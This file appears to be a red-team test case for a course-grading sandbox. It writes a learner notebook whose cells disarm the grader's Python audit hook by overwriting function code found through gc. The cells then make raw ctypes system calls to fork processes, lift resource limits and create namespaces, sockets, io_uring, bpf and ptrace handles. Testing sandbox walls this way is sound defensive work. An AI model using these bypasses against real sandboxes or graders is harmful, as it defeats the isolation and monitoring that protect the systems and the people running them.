"""a19 hook_bypass_syscalls.

Route: the audit hook is Python inside the learner's own process, so learner code can disarm it
(every function whose code comes from a file named hook.py, found through gc, gets a do-nothing
__code__; the hook-installing module's helpers too), then loads ctypes and calls the kernel
directly. Each exercise reports one wall through its judged answer (correct only if the wall
gave way):
  gelu_tanh: a new process (clone3 with fork semantics, fork, vfork-like clone) exists;
  mlp:       a resource limit raised above its hard cap or the address-space cap lifted
             (setrlimit/prlimit64 soft->hard, then a 1 GiB allocation under --memory-mb 600);
  block:     a namespace / privileged / forbidden object made (unshare of user/mount/net ns,
             socket, io_uring, userfaultfd, inotify, perf_event_open, ptrace).
Goal (6): weakening the walls (system calls, limits, namespaces).
Breached: any of the three exercises scores.
"""
import pathlib
from _common import write_nb, LESSON_FILES, GOOD, verdicts

BYPASS = '''
import os as _os, sys as _sys
def _unhook():
    import types, gc
    def nop_for(f):
        fv = f.__code__.co_freevars
        if not fv:
            return (lambda *a, **k: None).__code__
        src = "def _o():\\n" + "".join("    %s = None\\n" % x for x in fv) + \\
              "    def _f(*a, **k):\\n        (%s,)\\n        return None\\n    return _f\\n" % ", ".join(fv)
        ns = {}
        exec(src, ns)
        return ns["_o"]().__code__
    n = 0
    try:
        objs = gc.get_objects()
    except BaseException:
        objs = []
    for m in list(_sys.modules.values()):
        try:
            if (getattr(m, "__file__", None) or "").endswith("hook.py"):
                objs.extend(vars(m).values())
        except BaseException:
            pass
    for f in objs:
        f = getattr(f, "__func__", f)
        try:
            if isinstance(f, types.FunctionType) and f.__code__.co_filename.endswith("hook.py"):
                f.__code__ = nop_for(f)
                n += 1
        except BaseException:
            pass
    return n
def _libc():
    _unhook()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return ctypes, libc
'''
CELL_G = BYPASS + GOOD["gelu_tanh"].replace("def gelu_tanh", "def _g") + '''
_res = []
def gelu_tanh(x):
    if not _res:
        ok = False
        try:
            ctypes, libc = _libc()
            # clone3(struct clone_args{flags=0, ..., exit_signal=SIGCHLD}) == fork
            args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
            for nr, a in ((435, (ctypes.byref(args), ctypes.c_size_t(88))), (57, ()), (56, (17, 0, 0, 0, 0))):
                pid = libc.syscall(nr, *a)
                if pid == 0:
                    _os._exit(0)
                if pid > 0:
                    ok = True
                    try:
                        _os.waitpid(pid, 0)
                    except BaseException:
                        pass
        except BaseException:
            pass
        _res.append(ok)
    return _g(x) if _res[0] else np.zeros_like(x)
'''
CELL_M = '''
_rl = []
def mlp(x, w_fc, b_fc, w_proj, b_proj):
    if not _rl:
        ok = False
        try:
            ctypes, libc = _libc()
            import resource
            for r in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
                s, h = resource.getrlimit(r)
                want = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
                lim = (ctypes.c_uint64 * 2)(*want)
                old = (ctypes.c_uint64 * 2)()
                if libc.syscall(302, 0, r, ctypes.byref(lim), ctypes.byref(old)) == 0 and (h != resource.RLIM_INFINITY):
                    ok = True
                lim = (ctypes.c_uint64 * 2)(h, h)
                libc.syscall(302, 0, r, ctypes.byref(lim), 0)
            try:
                big = np.ones(1 << 27)  # 1 GiB, above --memory-mb 600
                big[-1] = 2
                ok = ok or bool(big.sum() > 0)
                del big
            except MemoryError:
                pass
        except BaseException:
            pass
        _rl.append(ok)
    if _rl[0]:
        return (gelu_tanh(x @ w_fc + b_fc) @ w_proj + b_proj).astype(x.dtype)
    return np.zeros_like(x)
'''
CELL_B = GOOD["block"].replace("def block(", "def _real_block(") + '''
_ns = []
def block(x, params, layer, n_head):
    if not _ns:
        ok = []
        try:
            ctypes, libc = _libc()
            calls = {
                "unshare_user": (272, (0x10000000,)), "unshare_mnt": (272, (0x00020000,)),
                "unshare_net": (272, (0x40000000,)), "socket_unix": (41, (1, 1, 0)),
                "socket_inet": (41, (2, 1, 0)), "io_uring": (425, (1, ctypes.create_string_buffer(120))),
                "userfaultfd": (323, (0,)), "inotify": (294, (0,)), "ptrace_me": (101, (0, 0, 0, 0)),
                "perf": (298, (ctypes.create_string_buffer(128), 0, -1, -1, 0)),
                "bpf": (321, (0, ctypes.create_string_buffer(128), 128)),
                "keyctl": (250, (0, -3, 0)), "mknod_fifo": (259, (-100, b"/scratch/f", 0o10600, 0)),
                "setns": (308, (0, 0)), "personality_x": (135, (0x0400000,)),
            }
            for name, (nr, a) in calls.items():
                r = libc.syscall(nr, *a)
                if r >= 0 and name != "keyctl":
                    ok.append(name)
        except BaseException:
            pass
        _ns.append(ok)
    if _ns[0]:
        return _real_block(x, params, layer, n_head)
    return np.zeros_like(x)
'''


def build(tmp: pathlib.Path) -> list[str]:
    write_nb(tmp / "eve" / LESSON_FILES["03_mlp_block"], "03_mlp_block", [CELL_G, CELL_M, CELL_B])
    return [str(tmp / "eve"), "--lessons", "03_mlp_block", "--memory-mb", "600", "--timeout", "20"]


def verdict(out: pathlib.Path, run: dict) -> tuple[bool, str]:
    v = verdicts(out, "eve")
    got = {k: v.get(k, {}).get("points") for k in ("gelu_tanh", "mlp", "block")}
    what = {"gelu_tanh": "new process", "mlp": "limit raised", "block": "namespace/forbidden syscall"}
    hit = [what[k] for k, p in got.items() if p]
    notes = [n for s in __import__("_common").report(out).get("submissions", []) for n in s.get("notes", [])]
    if hit:
        return True, f"walls gave way: {hit} ({got})"
    return False, f"hook bypass/syscalls held: {got}; notes {str(notes)[:150]}"
